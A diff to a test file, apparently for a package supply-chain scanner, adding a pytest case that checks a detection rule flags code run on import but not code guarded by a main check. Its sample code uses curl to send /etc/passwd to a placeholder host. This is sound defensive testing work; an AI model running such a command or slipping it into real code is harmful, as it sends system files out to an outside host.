@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+from collections.abc import Callable
+
 import pytest
 
 from yanmen.supply.packages.reading import syntax as s
@@ -46,3 +48,15 @@ def test_what_is_no_python_is_said(text: str) -> None:
     """ValueError, whatever the compiler raises."""
     with pytest.raises(ValueError, match="Error"):
         Python.parse(text)
+
+
+def test_what_only_a_script_does_is_not_done_on_import(rules_of: Callable[..., set[str]]) -> None:
+    """Also where the question for it is one of two."""
+    code = (
+        "import subprocess, sys\n"
+        "if sys.platform != 'win32' and __name__ == '__main__':\n"
+        "    subprocess.run(['curl', '-d@/etc/passwd', 'https://takes.invalid'])\n"
+    )
+
+    assert rules_of(code.replace("and __name__ == '__main__'", ""), high=True)
+    assert not rules_of(code, high=True)
